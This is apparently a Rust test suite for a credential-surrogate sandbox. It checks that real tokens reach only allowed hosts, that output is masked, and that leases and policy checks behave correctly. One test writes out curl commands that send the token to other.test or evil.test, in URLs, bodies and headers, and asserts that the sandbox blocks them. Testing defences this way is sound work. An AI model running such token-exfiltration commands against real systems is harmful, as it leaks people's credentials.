//! Credentials that no program holds: a surrogate inside, and the secret at the far end of a real network, where somebody
//! writes down what arrives.

use std::os::unix::fs::PermissionsExt as _;
use std::process::Command;

use cofferdam_testkit::origins::{Net, Request, Seen};
use cofferdam_testkit::product::{Product, Ran};
use serde_json::Value;

use crate::{ordinary, product};

/// What the operator keeps.
const SECRET: &str = "ghp_0123456789abcdefTHE-REAL-ONE";

/// The variable that has it.
const ROOT: &str = "COFFERDAM_TEST_SECRET";

/// A product whose operator has secrets for two hosts, in such a network.
struct World {
    product: Product,
    net: Net,
}

impl World {
    fn new(product: Product) -> Option<World> {
        let net = Net::start().ok()?;
        net.settle(&product);
        let world = World { product, net };
        world.issuers(&format!(
            "[static.api]\nroot = {{ env = \"{ROOT}\" }}\nhosts = [\"api.test:443\"]\ninject = \"bearer\"\n\
             [static.keyed]\nroot = {{ env = \"{ROOT}\" }}\nhosts = [\"second.test:443\"]\ninject = \"header\"\n\
             header = \"X-Api-Key\"\n\
             [static.pages]\nroot = {{ env = \"{ROOT}\" }}\nhosts = [\"allowed.test:443\"]\ninject = \"basic\"\n\
             max_ttl = \"1m\"\n"
        ));
        Some(world)
    }

    fn issuers(&self, text: &str) {
        let folder = self.product.folder().join("home/.config/cofferdam");
        let file = folder.join("issuers.toml");
        std::fs::write(&file, text).unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
        self.product.give(&file);
    }

    /// `run` with words before the program, a script of the shell's.
    fn command(&self, words: &[&str], script: &str) -> Command {
        let mut command = self.product.command(["run", "--json", "--profile", "internal"]);
        command.args(self.product.accepting()).args(words);
        command.args(["--", "sh", "-c", script]).env(ROOT, SECRET);
        command
    }

    fn run(&self, words: &[&str], script: &str) -> Value {
        self.net.run(&self.command(words, script)).json()
    }

    fn policy(&self, text: &str) -> String {
        let file = self.product.file("policy.toml", format!("version = 1\nprofile = \"internal\"\n{text}"));
        file.to_str().unwrap().to_owned()
    }
}

macro_rules! worlds {
    () => {{
        let worlds = [product(), ordinary()].map(World::new);
        match worlds {
            [Some(one), Some(other)] => [one, other],
            _ => cofferdam_testkit::skip!("this host gives a test no network of its own"),
        }
    }};
}

macro_rules! world {
    () => {
        match World::new(product()) {
            Some(world) => world,
            None => cofferdam_testkit::skip!("this host gives a test no network of its own"),
        }
    };
}

fn stdout(outcome: &Value) -> &str {
    outcome["stdout"]["text"].as_str().unwrap()
}

fn header<'a>(request: &'a Request, name: &str) -> Option<&'a str> {
    request.headers.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str())
}

/// The codes of an Outcome's denials, each once.
fn denied(outcome: &Value) -> Vec<&str> {
    let mut codes: Vec<_> = outcome["denials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|denial| denial["code"].as_str().unwrap())
        .collect();
    codes.sort_unstable();
    codes.dedup();
    codes
}

/// Whether anything of the requests that arrived has these bytes.
fn arrived(seen: &Seen, text: &str) -> bool {
    let in_request = |request: &Request| {
        request.path.contains(text) || request.headers.iter().any(|(_, value)| value.contains(text))
    };
    seen.requests.iter().any(in_request) || seen.holds(text.as_bytes())
}

const BEARER: &str = "curl -sS --max-time 20 -H \"Authorization: Bearer $API_TOKEN\"";

#[test]
fn the_host_gets_the_secret_and_the_program_a_surrogate() {
    for world in worlds!() {
        for version in ["--http1.1", "--http2"] {
            let script =
                format!("echo $API_TOKEN; {BEARER} {version} https://api.test/head https://api.test/head");
            let outcome = world.run(&["--cred", "api=static.api"], &script);
            let (said, seen) = (stdout(&outcome), world.net.seen());
            assert_eq!(seen.requests.len(), 2, "{outcome}");
            for request in &seen.requests {
                assert_eq!(header(request, "authorization"), Some(&*format!("Bearer {SECRET}")), "{version}");
                assert_eq!(request.version, if version == "--http2" { "HTTP/2.0" } else { "HTTP/1.1" });
            }
            let surrogate = said.lines().next().unwrap();
            assert!(surrogate.starts_with("ghp_cofferdam0"), "of the right shape: {said}");
            assert!(
                !said.contains(SECRET) && !said.contains(&SECRET[8..]),
                "what the host says back is masked: {said}"
            );
            assert!(said.contains("Bearer ****"), "{said}");
            assert!(!arrived(&seen, surrogate));
            let lease = &outcome["leases"][0];
            assert_eq!(
                (&lease["state"], &lease["uses"], &lease["weak"]),
                (&"dead".into(), &2.into(), &true.into()),
                "{outcome}"
            );
            let log = world.product.call(["audit", "show", "last"]).exits(0).stdout;
            let at = ["lease.minted", "credential.reflected", "lease.revoked"]
                .map(|event| log.find(event).unwrap());
            assert!(at.is_sorted() && !log.contains(SECRET) && !log.contains(surrogate), "{log}");
        }
    }
}

#[test]
fn anywhere_else_a_surrogate_is_blocked_and_said() {
    for world in worlds!() {
        let policy = world.policy(
            "[[network.allow]]\nhost = \"api.test\"\ncredential = \"api\"\nmethods = [\"GET\", \"POST\"]\n\
             paths = [\"/head\", \"/upload\"]\n\
             [[network.allow]]\nhost = \"other.test\"\n[[network.allow]]\nhost = \"evil.test\"\nprotocol = \"http\"\n\
             [[credential]]\nname = \"api\"\nissuer = \"static.api\"\ninject = \"bearer\"\nsurrogate_env = \"API_TOKEN\"\n",
        );
        let basic = "$(printf 'u:%s' $API_TOKEN | base64 -w0)";
        for (command, code) in [
            (format!("{BEARER} https://other.test/head"), "credential_wrong_host"),
            ("curl -sS https://other.test/?t=$API_TOKEN".into(), "credential_wrong_host"),
            ("curl -sS --data a=$API_TOKEN https://other.test/upload".into(), "credential_wrong_host"),
            (
                format!("curl -sS -H \"Authorization: Basic {basic}\" https://other.test/"),
                "credential_wrong_host",
            ),
            (format!("{BEARER} http://evil.test/head"), "credential_wrong_host"),
            ("curl -sS https://api.test/head?t=$API_TOKEN".into(), "credential_wrong_place"),
            ("curl -sS -H \"X-Api-Key: $API_TOKEN\" https://api.test/head".into(), "credential_wrong_place"),
            (
                format!("curl -sS -H \"Authorization: Basic {basic}\" https://api.test/head"),
                "credential_wrong_place",
            ),
            (format!("{BEARER} --data a=$API_TOKEN https://api.test/upload"), "credential_wrong_place"),
            ("curl -sS -H 'Authorization: Bearer mine' https://api.test/head".into(), "foreign_credential"),
            (format!("{BEARER} -H 'Cookie: session=mine' https://api.test/head"), "foreign_credential"),
            (format!("{BEARER} 'https://api.test/head?access_token=mine'"), "foreign_credential"),
            (format!("{BEARER} https://api.test/elsewhere"), "path_not_allowed"),
            (format!("{BEARER} -X DELETE https://api.test/head"), "method_not_allowed"),
        ] {
            let outcome = world.run(&["--policy", &policy], &format!("echo $API_TOKEN; {command}"));
            let (said, seen) = (stdout(&outcome), world.net.seen());
            assert_eq!(denied(&outcome), [code], "{command}: {outcome}");
            assert!(said.contains(code), "the program is told: {command}: {said}");
            let surrogate = said.lines().next().unwrap();
            assert!(surrogate.contains("cofferdam0") && !arrived(&seen, surrogate), "{command}");
            assert!(!arrived(&seen, SECRET) && !arrived(&seen, "mine"), "{command}: {:?}", seen.requests);
            if !code.ends_with("_not_allowed") {
                let log = world.product.call(["audit", "show", "last"]).exits(0).stdout;
                assert!(log.contains("credential.misused"), "{log}");
            }
        }
        let outcome = world.run(&["--policy", &policy], &format!("{BEARER} https://api.test/head"));
        assert!(denied(&outcome).is_empty(), "a positive control: {outcome}");
        assert!(arrived(&world.net.seen(), SECRET));
    }
}

#[test]
fn a_header_and_basic_authentication_have_their_places_too() {
    let world = world!();
    let script = "curl -sS -H \"X-Api-Key: $K_TOKEN\" https://second.test/head; \
                  curl -sS -u \"me:$G_TOKEN\" https://allowed.test/head; curl -sS https://allowed.test/head >/dev/null";
    let outcome = world.run(&["--cred", "k=static.keyed", "--cred", "g=static.pages"], script);
    let seen = world.net.seen();
    let [keyed, basic, first] = &seen.requests[..] else { panic!("{outcome}: {:?}", seen.requests) };
    assert_eq!(header(keyed, "x-api-key"), Some(SECRET));
    let sent = header(basic, "authorization").unwrap().strip_prefix("Basic ").unwrap().to_owned();
    let decode = format!("printf %s '{sent}' | base64 -d");
    let decoded = cofferdam_testkit::product::finish({
        let mut command = Command::new("sh");
        command.args(["-c", &decode]);
        command
    });
    assert_eq!(decoded.stdout, format!("me:{SECRET}"));
    assert_eq!(header(first, "authorization"), None, "git asks so first");
    let said = stdout(&outcome);
    assert!(!said.contains(SECRET) && !said.contains(&sent), "in no form: {said}");
    // Where a rule without a credential names the host too, the credential's comes first.
    let both = ["--allow", "second.test", "--cred", "k=static.keyed"];
    let outcome = world.run(&both, "curl -sS -H \"X-Api-Key: $K_TOKEN\" https://second.test/ok");
    assert_eq!(stdout(&outcome), "ok\n", "{outcome}");
    assert!(arrived(&world.net.seen(), SECRET));
    let crossed = "curl -sS -H \"X-Api-Key: $G_TOKEN\" https://second.test/head";
    let outcome = world.run(&["--cred", "k=static.keyed", "--cred", "g=static.pages"], crossed);
    assert_eq!(denied(&outcome), ["credential_wrong_host"], "{outcome}");
    assert!(world.net.seen().requests.is_empty());
}

#[test]
fn a_surrogate_is_worth_nothing_in_another_sandbox_and_after_its_run() {
    let world = world!();
    let first =
        world.run(&["--cred", "api=static.api"], &format!("echo $API_TOKEN; {BEARER} https://api.test/ok"));
    let kept = stdout(&first).lines().next().unwrap().to_owned();
    assert!(arrived(&world.net.seen(), SECRET), "a positive control: {first}");
    let send = format!("curl -sS -H 'Authorization: Bearer {kept}' https://api.test/ok");
    let other = world.run(&["--cred", "api=static.api"], &send);
    assert_eq!(denied(&other).len(), 1, "{other}");
    assert!(stdout(&other).contains("credential_wrong_place"), "{other}");
    let without = world.run(&["--allow", "api.test"], &send);
    assert_eq!(denied(&without), ["credential_wrong_host"], "{without}");
    let seen = world.net.seen();
    assert!(!arrived(&seen, SECRET) && !arrived(&seen, &kept));
}

#[test]
fn uses_and_time_are_counted_and_misuse_can_end_a_run() {
    let world = world!();
    let policy = |more: &str| {
        world.policy(&format!(
            "[[network.allow]]\nhost = \"api.test\"\ncredential = \"api\"\n[[network.allow]]\nhost = \"other.test\"\n\
             [[credential]]\nname = \"api\"\nissuer = \"static.api\"\ninject = \"bearer\"\nsurrogate_env = \"API_TOKEN\"\n{more}"
        ))
    };
    let get = format!("{BEARER} https://api.test/ok");
    let outcome = world.run(&["--policy", &policy("max_uses = 2\n")], &format!("{get}; {get}; {get}"));
    assert_eq!(
        (denied(&outcome), &outcome["leases"][0]["uses"]),
        (vec!["credential_expired"], &2.into()),
        "{outcome}"
    );
    assert_eq!(world.net.seen().requests.len(), 2);
    let outcome = world.run(&["--policy", &policy("ttl = \"1s\"\n")], &format!("{get}; sleep 1.2; {get}"));
    assert_eq!(denied(&outcome), ["credential_expired"], "{outcome}");
    assert_eq!(world.net.seen().requests.len(), 1);
    let misuse = format!("{BEARER} https://other.test/ok; sleep 60; echo lived");
    let outcome = world.run(&["--policy", &policy("on_misuse = \"terminate\"\n")], &misuse);
    assert_eq!(
        (&outcome["end"], &outcome["error"]["code"]),
        (&"cancelled".into(), &"credential_misused".into()),
        "{outcome}"
    );
    assert!(!stdout(&outcome).contains("lived") && outcome["blame"] == "program", "{outcome}");
}

#[test]
fn a_redirect_takes_no_credential_along() {
    let world = world!();
    let script =
        format!("{BEARER} -L --location-trusted 'https://api.test/redirect?to=https://other.test/head'");
    let outcome = world.run(&["--cred", "api=static.api", "--allow", "other.test"], &script);
    assert_eq!(denied(&outcome), ["credential_wrong_host"], "{outcome}");
    let seen = world.net.seen();
    assert_eq!(seen.asked(), ["GET api.test /redirect?to=https://other.test/head"]);
}

#[test]
fn what_is_wrong_is_said_before_anything_starts() {
    let world = world!();
    let refused = |ran: Ran, says: &str| {
        let outcome = ran.json();
        assert_eq!(outcome["end"], "refused", "{outcome}");
        assert!(outcome["error"]["message"].as_str().unwrap().contains(says), "{outcome}");
        assert!(!outcome["error"]["fix"].as_str().unwrap().is_empty());
    };
    let mut command = world.command(&["--cred", "api=static.api"], "true");
    command.env_remove(ROOT);
    refused(world.net.run(&command), "isn't set");
    let flags = |words: &[&str]| world.net.run(&world.command(words, "true"));
    refused(flags(&["--cred", "api=static.api", "--cred", "api=static.keyed"]), "is there twice");
    refused(flags(&["--cred", "a=static.api", "--cred", "b=static.api"]), "a request carries one");
    refused(flags(&["--cred", "a-b=static.api", "--cred", "a_b=static.keyed"]), "the variable A_B_TOKEN");
    refused(flags(&["--cred", "api=static.api:path=x"]), "nothing called `path`");
    let run = |text: &str| {
        let policy = world.policy(text);
        world.net.run(&world.command(&["--policy", &policy], "true"))
    };
    let rule = "[[network.allow]]\nhost = \"api.test\"\n";
    let table = "[[credential]]\nname = \"api\"\nissuer = \"static.api\"\n";
    refused(
        run(&format!("{rule}credential = \"api\"\n{table}inject = \"basic\"\n")),
        "doesn't inject as `basic`",
    );
    refused(run(&format!("{rule}{table}deliver = {{ T = \"{{token}}\" }}\n")), "stay outside");
    let other = rule.replace("api.test", "other.test");
    refused(
        run(&format!("{other}credential = \"api\"\n{table}inject = \"bearer\"\n")),
        "lets no credential go to other.test:443",
    );
    refused(
        run(&format!("{rule}{rule}paths = [\"/a/**\"]\ncredential = \"api\"\n{table}inject = \"bearer\"\n")),
        "lets all of this out without the credential",
    );
    let late = "[[network.allow]]\nhost = \"allowed.test\"\ncredential = \"g\"\n\
                [[credential]]\nname = \"g\"\nissuer = \"static.pages\"\ninject = \"basic\"\nttl = \"2m\"\n";
    refused(run(late), "is to live longer");
    refused(
        run(&format!("{rule}protocol = \"http\"\ncredential = \"api\"\n{table}inject = \"bearer\"\n")),
        "anybody can read",
    );
}

/// What programs of every kind send: a bearer, and what the host answers.
#[test]
fn programs_of_every_kind_send_a_bearer() {
    let world = world!();
    let requests = "import os, requests\n\
                    s = requests.Session(); s.headers['Authorization'] = 'Bearer ' + os.environ['API_TOKEN']\n\
                    print([s.get('https://api.test/ok').text for _ in range(2)])";
    let node = "fetch('https://api.test/ok', {headers: {Authorization: `Bearer ${process.env.API_TOKEN}`}})\
                .then(answer => answer.text()).then(console.log)";
    for (needs, script) in [
        ("/usr/bin/curl", format!("{BEARER} https://api.test/ok")),
        ("/usr/lib/python3/dist-packages/requests", format!("/usr/bin/python3 -c \"{requests}\"")),
        ("/usr/bin/node", format!("node -e '{}'", node.replace('\'', "\""))),
    ] {
        if !std::path::Path::new(needs).exists() {
            println!("note: there is no {needs}");
            continue;
        }
        let outcome = world.run(&["--cred", "api=static.api"], &script);
        assert!(stdout(&outcome).contains("ok"), "{needs}: {outcome}");
        let seen = world.net.seen();
        assert!(!seen.requests.is_empty());
        for request in &seen.requests {
            assert_eq!(header(request, "authorization"), Some(&*format!("Bearer {SECRET}")), "{needs}");
        }
    }
}

#[test]
fn python_in_webassembly_sends_a_bearer_too() {
    let world = world!();
    let Some(data) = cofferdam_testkit::templates::data() else {
        cofferdam_testkit::skip!("{}", cofferdam_testkit::templates::NONE)
    };
    let script = "import os, urllib.request as u\n\
                  ask = lambda url: u.urlopen(u.Request(url, headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']}))\n\
                  print(ask('https://api.test/head').read().decode())\n\
                  try: ask('https://other.test/head')\n\
                  except Exception as e: print(e)";
    let words = [
        "run",
        "--json",
        "--backend",
        "wasm",
        "--cred",
        "api=static.api",
        "--allow",
        "other.test",
        "-c",
        script,
    ];
    let mut command = world.product.command(words);
    command.env("COFFERDAM_DATA", data).env(ROOT, SECRET);
    let outcome = world.net.run(&command).json();
    let seen = world.net.seen();
    assert_eq!(seen.asked(), ["GET api.test /head"], "{outcome}");
    assert_eq!(header(&seen.requests[0], "authorization"), Some(&*format!("Bearer {SECRET}")));
    assert!(
        stdout(&outcome).contains("Bearer ****") && stdout(&outcome).contains("credential_wrong_host"),
        "{outcome}"
    );
    assert_eq!(
        (&outcome["backend"], &outcome["leases"][0]["state"]),
        (&"wasm".into(), &"dead".into()),
        "{outcome}"
    );
}

/// git over HTTPS with basic authentication, as its own server checks it.
#[test]
fn git_pushes_and_clones_with_a_surrogate() {
    const BACKEND: &str = "/usr/lib/git-core/git-http-backend";
    if !std::path::Path::new(BACKEND).exists() {
        cofferdam_testkit::skip!("there is no {BACKEND}");
    }
    for world in worlds!() {
        let place = world.product.folder().join("repositories");
        let make = format!(
            "mkdir -p {0} && git init -q --bare {0}/shop.git && git -C {0}/shop.git config http.receivepack true && \
             git -C {0}/shop.git symbolic-ref HEAD refs/heads/main && chmod -R a+rwX {0}",
            place.display()
        );
        let mut command = Command::new("sh");
        command.args(["-c", &make]);
        assert_eq!(cofferdam_testkit::product::finish(command).code, 0);
        // Whoever doesn't authenticate is asked to; whoever does with something else is refused.
        let server = world.product.file(
            "git-server",
            format!(
                "#!/bin/sh\nuser=$(printf %s \"${{HTTP_AUTHORIZATION#Basic }}\" | base64 -d 2>/dev/null)\n\
                 case \"$HTTP_AUTHORIZATION\" in\n\
                 '') printf 'Status: 401 Unauthorized\\r\\nWWW-Authenticate: Basic realm=\"git\"\\r\\n\\r\\n'; exit;;\nesac\n\
                 [ \"$user\" = 'x-access-token:{SECRET}' ] || {{ printf 'Status: 403 Forbidden\\r\\n\\r\\n'; exit; }}\n\
                 exec env REMOTE_USER=agent {BACKEND}\n"
            ),
        );
        std::fs::set_permissions(&server, std::fs::Permissions::from_mode(0o755)).unwrap();
        let variables = [("GIT_PROJECT_ROOT", place.to_str().unwrap()), ("GIT_HTTP_EXPORT_ALL", "1")];
        let variables = variables.map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
        world.net.share("/git", cofferdam_testkit::origins::Share::Program { path: server, variables });
        let script = "set -e; export HOME=/tmp\n\
                      git config --global credential.helper '!f() { echo username=x-access-token; echo password=$G_TOKEN; }; f'\n\
                      git config --global user.email a@b.test; git config --global user.name a\n\
                      cd /tmp; git init -q -b main work; cd work; echo text > file; git add file; git commit -qm one\n\
                      git push -q https://allowed.test/git/shop.git main\n\
                      cd /tmp; git clone -q https://allowed.test/git/shop.git again; cat again/file";
        let outcome = world.run(&["--cred", "g=static.pages"], script);
        assert_eq!(stdout(&outcome), "text\n", "{outcome}");
        assert!(outcome["leases"][0]["uses"].as_u64() >= Some(3), "{outcome}");
        let seen = world.net.seen();
        assert!(
            seen.requests.iter().any(|request| header(request, "authorization").is_none()),
            "its first asks so"
        );
        let refused = world.run(
            &["--cred", "g=static.pages"],
            "git clone -q https://u:mine@allowed.test/git/shop.git /tmp/x",
        );
        assert_eq!(denied(&refused), ["foreign_credential"], "{refused}");
    }
}
